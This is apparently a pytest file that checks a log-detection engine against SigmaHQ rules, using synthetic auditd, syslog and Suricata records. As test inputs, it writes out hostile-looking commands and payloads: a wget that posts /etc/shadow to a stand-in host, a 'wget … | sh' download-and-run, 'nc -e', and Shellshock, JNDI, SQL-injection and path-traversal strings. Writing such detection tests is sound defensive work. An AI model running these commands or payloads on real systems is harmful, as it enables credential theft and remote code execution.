"""The 80 SigmaHQ rules of the corpus on egovops events.

Three angles: every rule fires on an event built from its own condition and stays quiet when the values
are replaced (a check of the compiler, rule by rule); hand-written raw log lines parsed by the real
sources fire the rules they should (a check of the field mappings against the parsers); and the real
logs of the corpora produce exactly the detections listed (ids and counts).
"""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from secops.detection import ir
from secops.detection.fixtures import events_from_log
from secops.detection.pipelines import LOGSOURCES
from secops.detection.ruleset import CompiledRule, RuleSet
from secops.ingest.pipeline import Ingestor
from secops.store import open_store
from tests.components import corpus, require_binary

RULES = corpus("sigma", "rules")
CORPUS = RuleSet.load([RULES])
BY_STEM = {Path(rule.ref.path).stem: rule for rule in CORPUS.rules}

REGEX_SAMPLES = {r"(^|\/)\.[^.\/]": "/home/ops/.hidden"}
"""A value each corpus regular expression matches (the witness builder cannot invert a regex)."""


# --- events built from a rule's own condition ---------------------------------------------------------


def _glob_sample(pattern: str) -> str:
    text = pattern.removeprefix(r"\A").removesuffix(r"\Z")
    text = text.replace(".*", "x").replace("(?s:.)", "x")
    text = re.sub(r"(?<!\\)\.", "x", text)
    return re.sub(r"\\(.)", r"\1", text)


def _satisfy(node: ir.Node, want: bool, found: dict[str, Any]) -> bool:
    """Add field values to `found` so that `node` evaluates to `want`; False when this builder cannot."""
    if isinstance(node, ir.Const):
        return node.value == want
    if isinstance(node, ir.Not):
        return _satisfy(node.arg, not want, found)
    if isinstance(node, ir.And | ir.Or):
        every = isinstance(node, ir.And) == want  # AND made true / OR made false: every argument
        if every:
            return all(_satisfy(arg, want, found) for arg in node.args)
        return any(_satisfy(arg, want, dict(found)) and _satisfy(arg, want, found) for arg in node.args)
    return _leaf(node, want, found)


def _leaf(leaf: ir.Leaf, want: bool, found: dict[str, Any]) -> bool:
    name = leaf.fields[0]
    absent_true = leaf.op == "null" or (leaf.op == "exists" and not leaf.args[0])
    if not want:  # an absent field fails every test but `exists: false` and `null`
        if absent_true:
            found.setdefault(name, {"any": "present"})
        return True
    if absent_true:
        return name not in found
    parts = found.setdefault(name, {})
    if leaf.op == "eq":
        parts["eq"] = sorted(leaf.args[0])[0]
    elif leaf.op == "contains":
        parts.setdefault("contains", []).append(leaf.args[0][0])
    elif leaf.op in ("prefix", "suffix"):
        parts[leaf.op] = leaf.args[0][0]
    elif leaf.op == "glob":
        parts["eq"] = _glob_sample(leaf.args[0].pattern)
    elif leaf.op == "regex":
        parts["eq"] = REGEX_SAMPLES[leaf.args[0].pattern]
    elif leaf.op == "num":
        parts["eq"] = leaf.args[0]
    elif leaf.op == "exists":
        parts.setdefault("any", "present")
    else:
        return False
    return True


def _value(parts: dict[str, Any]) -> Any:
    """One value meeting every test collected for a field: prefix, substrings, suffix; or the exact one."""
    if "eq" in parts:
        return parts["eq"]
    middle = " ".join(parts.get("contains", [])) or parts.get("any", "")
    return parts.get("prefix", "") + (f" {middle} " if middle else "") + parts.get("suffix", "")


def _put(doc: dict[str, Any], name: str, value: Any) -> None:
    parts = name.split(".")
    node: Any = doc
    for index, part in enumerate(parts):
        last = index == len(parts) - 1
        if part.isdigit():
            position = int(part)
            while len(node) <= position:
                node.append("")
            if last:
                node[position] = value
            continue
        if last:
            if isinstance(node.get(part), list):  # `process.args` beside `process.args.N`: one more element
                node[part].append(value)
            else:
                node[part] = value
        elif parts[index + 1].isdigit():
            node = node.setdefault(part, [])
        else:
            node = node.setdefault(part, {})


def witnesses(rule: CompiledRule, dataset: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """A document the rule's condition accepts, and the same document with its values replaced."""
    node = ir.specialise(ir.simplify(ir.from_sigma(rule.rule.detection.parsed_condition[0].parsed)), dataset)
    found: dict[str, Any] = {}
    assert _satisfy(node, True, found), f"cannot build an event for {rule.ref.title}"
    where = {name for source in LOGSOURCES for feed in source.feeds for name in feed.where}
    positive: dict[str, Any] = {"event": {"dataset": dataset}}
    negative: dict[str, Any] = {"event": {"dataset": dataset}}
    indexed_first = sorted(
        found.items(), key=lambda item: (not any(p.isdigit() for p in item[0].split(".")), item[0])
    )
    for name, parts in indexed_first:
        value = _value(parts)
        _put(positive, name, value)
        _put(negative, name, value if name in where else "egovops-benign")
    return positive, negative


@pytest.mark.parametrize("stem", sorted(BY_STEM))
def test_rule_fires_on_its_own_witness_and_not_on_benign_values(stem: str) -> None:
    rule = BY_STEM[stem]
    for dataset in rule.datasets:
        positive, negative = witnesses(rule, dataset)
        assert rule.ref in CORPUS.match(positive), positive
        assert rule.ref not in CORPUS.match(negative), negative


# --- raw log lines through the real sources -----------------------------------------------------------

SYSCALL = (
    "type=SYSCALL msg=audit(1700000000.{n:03d}:{n}): arch=c000003e syscall={sc} success=yes exit=0 a0={a0} "
    "a1=1 a2=2 a3=3 items=1 ppid=1 pid={n} auid=1000 uid={uid} gid=0 euid={uid} suid=0 fsuid=0 egid=0 "
    'sgid=0 fsgid=0 tty=pts0 ses=1 comm="{comm}" exe="{exe}" key={key}'
)


def execve(n: int, *args: str, exe: str = "", key: str = "(null)") -> str:
    """The records of one execve: SYSCALL, EXECVE and the PROCTITLE the kernel writes."""
    program = exe or f"/usr/bin/{args[0]}"
    record = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
    title = "00".join(a.encode().hex().upper() for a in args)
    return "\n".join(
        [
            SYSCALL.format(n=n, sc=59, a0="55d", uid=1000, comm=args[0][:15], exe=program, key=key),
            f"type=EXECVE msg=audit(1700000000.{n:03d}:{n}): argc={len(args)} {record}",
            f"type=PROCTITLE msg=audit(1700000000.{n:03d}:{n}): proctitle={title}",
        ]
    )


def path_record(n: int, name: str, nametype: str = "NORMAL", syscall: int = 257) -> str:
    return "\n".join(
        [
            SYSCALL.format(
                n=n, sc=syscall, a0="ffffff9c", uid=0, comm="vim", exe="/usr/bin/vim", key="(null)"
            ),
            f'type=PATH msg=audit(1700000000.{n:03d}:{n}): item=0 name="{name}" inode=1 dev=08:01 '
            "mode=0100644 "
            f"ouid=0 ogid=0 rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
        ]
    )


def eve(kind: str, body: str) -> str:
    return (
        '{"timestamp":"2026-11-22T10:00:00.000000+0800","flow_id":1,"event_type":"' + kind + '",'
        '"src_ip":"10.20.1.5","src_port":40000,"dest_ip":"10.20.0.53","dest_port":53,"proto":"UDP",'
        + body
        + "}"
    )


def http(url: str, agent: str = "Mozilla/5.0", method: str = "GET", status: int = 200) -> str:
    return eve(
        "http",
        f'"http":{{"hostname":"www.example.gov.cn","url":"{url}","http_user_agent":"{agent}",'
        f'"http_method":"{method}","protocol":"HTTP/1.1","status":{status},"length":10}}',
    )


def dns(name: str) -> str:
    return eve("dns", f'"dns":{{"type":"query","id":1,"rrname":"{name}","rrtype":"A","tx_id":0}}')


RAW_CASES: list[tuple[str, str, str, bool]] = [
    ("lnx_auditd_capabilities_discovery", "auditd", execve(1, "getcap", "-r", "/"), True),
    ("lnx_auditd_capabilities_discovery", "auditd", execve(2, "getcap", "/usr/bin/ping"), False),
    ("lnx_auditd_chattr_immutable_removal", "auditd", execve(3, "chattr", "-i", "/etc/passwd"), True),
    ("lnx_auditd_data_exfil_wget", "auditd", execve(4, "wget", "--post-file=/etc/shadow", "http://x"), True),
    (
        "lnx_auditd_modify_system_firewall",
        "auditd",
        execve(5, "iptables", "-A", "INPUT", "-j", "DROP"),
        False,
    ),
    ("lnx_auditd_modify_system_firewall", "auditd", execve(6, "iptables", "DROP"), True),
    ("lnx_auditd_binary_padding", "auditd", execve(7, "truncate", "-s", "+5M", "/usr/bin/x"), True),
    ("lnx_auditd_binary_padding", "auditd", execve(8, "dd", "if=/dev/zero", "of=/usr/bin/x"), False),
    ("lnx_auditd_find_cred_in_files", "auditd", execve(9, "grep", "-ri", "password", "/etc"), True),
    ("lnx_auditd_susp_histfile_operations", "auditd", execve(10, "cat", "/root/.bash_history"), True),
    ("lnx_auditd_system_shutdown_reboot", "auditd", execve(11, "init", "0"), True),
    ("lnx_auditd_system_shutdown_reboot", "auditd", execve(12, "init", "5"), False),
    ("lnx_auditd_hidden_files_directories", "auditd", execve(13, "mkdir", "/tmp/.cache2"), True),
    ("lnx_auditd_hidden_files_directories", "auditd", execve(14, "mkdir", "/tmp/cache2"), False),
    ("lnx_auditd_user_discovery", "auditd", execve(15, "whoami"), True),
    ("lnx_auditd_coinminer", "auditd", execve(16, "xmrig", "-o", "pool", "--cpu-priority=5"), True),
    ("lnx_auditd_susp_exe_folders", "auditd", execve(17, "x", exe="/tmp/x"), True),
    ("lnx_auditd_susp_exe_folders", "auditd", execve(18, "ls"), False),
    ("lnx_auditd_susp_c2_commands", "auditd", execve(19, "nc", "-e", key='"susp_activity"'), True),
    ("lnx_auditd_ld_so_preload_mod", "auditd", path_record(20, "/etc/ld.so.preload"), True),
    ("lnx_auditd_ld_so_preload_mod", "auditd", path_record(21, "/etc/ld.so.conf"), False),
    (
        "lnx_auditd_systemd_service_creation",
        "auditd",
        path_record(22, "/etc/systemd/system/x.service", "CREATE"),
        True,
    ),
    (
        "lnx_auditd_systemd_service_creation",
        "auditd",
        path_record(23, "/etc/systemd/system/x.service"),
        False,
    ),
    (
        "lnx_auditd_unix_shell_configuration_modification",
        "auditd",
        path_record(24, "/home/ops/.bashrc"),
        True,
    ),
    ("lnx_auditd_hidden_binary_execution", "auditd", path_record(25, "/tmp/.x/run"), True),
    ("lnx_auditd_hidden_binary_execution", "auditd", path_record(26, "/home/ops/.cache/run"), False),
    (
        "lnx_auditd_clean_disable_dmesg_logs_via_syslog",
        "auditd",
        SYSCALL.format(n=27, sc=103, a0=5, uid=0, comm="dmesg", exe="/usr/bin/dmesg", key="(null)"),
        True,
    ),
    (
        "lnx_auditd_clean_disable_dmesg_logs_via_syslog",
        "auditd",
        SYSCALL.format(n=28, sc=103, a0=3, uid=0, comm="dmesg", exe="/usr/bin/dmesg", key="(null)"),
        False,
    ),
    (
        "lnx_auditd_web_rce",
        "auditd",
        SYSCALL.format(n=29, sc=59, a0="55d", uid=33, comm="sh", exe="/bin/dash", key="(null)"),
        True,
    ),
    (
        "lnx_auditd_web_rce",
        "auditd",
        SYSCALL.format(n=30, sc=59, a0="55d", uid=1000, comm="sh", exe="/bin/dash", key="(null)"),
        False,
    ),
    (
        "lnx_auditd_disable_system_firewall",
        "auditd",
        "type=SERVICE_STOP msg=audit(1700000000.031:31): pid=1 uid=0 auid=4294967295 ses=4294967295 "
        'msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? '
        "res=success'",
        True,
    ),
    (
        "lnx_auditd_create_account",
        "auditd",
        "type=ADD_USER msg=audit(1700000000.032:32): pid=4242 uid=0 auid=1000 ses=3 "
        "msg='op=adding user id=1005 "
        'exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=success\'',
        True,
    ),
    (
        "lnx_privileged_user_creation",
        "auth",
        "Nov 22 10:03:00 web1 useradd[5000]: new user: name=backup2, UID=0, GID=0, home=/root, "
        "shell=/bin/bash",
        True,
    ),
    (
        "lnx_privileged_user_creation",
        "auth",
        "Nov 22 10:03:00 web1 useradd[5000]: new user: name=ops2, UID=1002, GID=1002, home=/home/ops2, "
        "shell=/bin/bash",
        False,
    ),
    (
        "lnx_shellshock",
        "auth",
        "Nov 22 10:05:00 web1 sudo[77]: ops : COMMAND=/usr/bin/env x='() { :;}; echo'",
        True,
    ),
    (
        "lnx_shell_susp_commands",
        "auth",
        "Nov 22 10:06:00 web1 cron[88]: (root) CMD (wget http://x/a -O- | sh; chmod +x /tmp/a)",
        True,
    ),
    ("lnx_sshd_susp_ssh", "auth", "Nov 22 10:07:00 web1 sshd[99]: error: Corrupted MAC on input.", True),
    ("lnx_sshd_susp_ssh", "auth", "Nov 22 10:07:00 web1 cron[99]: error: Corrupted MAC on input.", False),
    (
        "web_apache_segfault",
        "auth",
        "Nov 22 10:08:00 web1 apache2[100]: [core:notice] [pid 100] AH00052: child pid 4321 exit signal "
        "Segmentation fault (11)",
        True,
    ),
    (
        "web_nginx_core_dump",
        "auth",
        "Nov 22 10:09:00 web1 nginx[101]: 2026/11/22 10:09:00 [alert] 101#101: worker process 4322 exited on "
        "signal 6 (core dumped)",
        True,
    ),
    ("net_dns_susp_telegram_api", "suricata", dns("api.telegram.org"), True),
    ("net_dns_susp_telegram_api", "suricata", dns("core.telegram.org"), False),
    ("net_dns_external_service_interaction_domains", "suricata", dns("abc.oast.fun"), True),
    ("net_dns_external_service_interaction_domains", "suricata", dns("x.polling.oastify.com"), False),
    ("net_dns_mal_cobaltstrike", "suricata", dns("aaa.stage.12345.example.com"), True),
    (
        "net_dns_wannacry_killswitch_domain",
        "suricata",
        dns("iuqssfsodp9ifjaposdfjhgosurijfaewrwergwea.com"),
        True,
    ),
    ("web_susp_useragents", "suricata", http("/", agent="Mozilla/5.00 (Nikto/2.1.6)"), True),
    ("web_susp_useragents", "suricata", http("/", agent="curl/8.0"), False),
    ("web_sql_injection_in_access_logs", "suricata", http("/a.php?id=1%20UNION%20SELECT%201,2"), True),
    (
        "web_sql_injection_in_access_logs",
        "suricata",
        http("/a.php?id=1%20UNION%20SELECT%201,2", status=404),
        False,
    ),
    ("web_xss_in_access_logs", "suricata", http("/s?q=%3Cb%3Ehello"), False),
    ("web_xss_in_access_logs", "suricata", http("/s?q=javascript%3Aalert(1)"), True),
    ("web_path_traversal_exploitation_attempt", "suricata", http("/download?f=../../../etc/passwd"), True),
    ("web_source_code_enumeration", "suricata", http("/.git/config"), True),
    ("web_jndi_exploit", "suricata", http("/", agent="${jndi:ldap://x/Basic/Command/Base64/aWQ=}"), True),
    ("web_win_webshells_in_access_logs", "suricata", http("/shell.aspx?c=whoami"), True),
    ("web_f5_tm_utility_bash_api_request", "suricata", http("/mgmt/tm/util/bash", method="POST"), True),
    ("web_f5_tm_utility_bash_api_request", "suricata", http("/mgmt/tm/util/bash", method="GET"), False),
    ("web_iis_tilt_shortname_scan", "suricata", http("/ABCDEF~1a.aspx", method="OPTIONS", status=301), True),
]


@pytest.mark.parametrize(
    ("stem", "fmt", "log", "fires"),
    RAW_CASES,
    ids=[f"{c[0]}-{'fires' if c[3] else 'quiet'}-{i}" for i, c in enumerate(RAW_CASES)],
)
def test_rule_on_raw_log_lines(stem: str, fmt: str, log: str, fires: bool) -> None:
    rule = BY_STEM[stem]
    docs = events_from_log(fmt, log)
    assert docs
    assert any(rule.ref in CORPUS.match(d) for d in docs) is fires


# --- the corpora's real logs --------------------------------------------------------------------------


def ingest(tmp_path: Path, *paths: Path) -> list[dict[str, Any]]:
    store = open_store(f"sqlite:///{tmp_path / 'events.db'}")
    try:
        report = Ingestor(store).run(paths)
        assert not report.errors, report.errors
        return list(store.export())
    finally:
        store.close()


def detections(ruleset: RuleSet, docs: list[dict[str, Any]]) -> Counter[str]:
    return Counter(Path(ref.path).stem for d in docs for ref in ruleset.match(d))


def test_real_audit_logs(tmp_path: Path) -> None:
    docs = ingest(
        tmp_path,
        corpus("go-libaudit", "auparse", "testdata", "audit-rhel7.log"),
        corpus("go-libaudit", "testdata", "normal.log"),
        corpus("audit-userspace", "auparse", "test", "test.log"),
        corpus(
            "crowdsec-hub",
            ".tests",
            "auditd-postexploit-exec-from-net",
            "auditd-postexploit-exec-from-net.log",
        ),
        corpus("crowdsec-hub", ".tests", "auditd-base64-exec", "auditd-base64-exec.log"),
    )
    assert detections(CORPUS, docs) == {
        "lnx_auditd_keylogging_with_pam_d": 3,
        "lnx_auditd_create_account": 1,
        "lnx_auditd_susp_exe_folders": 1,
    }


def test_real_web_and_ids_logs(tmp_path: Path) -> None:
    data = Path(__file__).parents[1] / "data"
    docs = ingest(tmp_path, data / "modsecurity", data / "suricata")
    assert detections(CORPUS, docs) == {"web_xss_in_access_logs": 1}
    xss = [d for d in docs if CORPUS.match(d)]
    assert xss[0]["url"]["original"].startswith("/search?q=%3Cscript%3E")


def test_real_capture(tmp_path: Path) -> None:
    require_binary("tshark", "apt-get install -y tshark")
    docs = ingest(tmp_path, corpus("suricata-verify", "tests", "bug-814", "input.pcap"))
    assert detections(CORPUS, docs) == {"web_susp_useragents": 1}
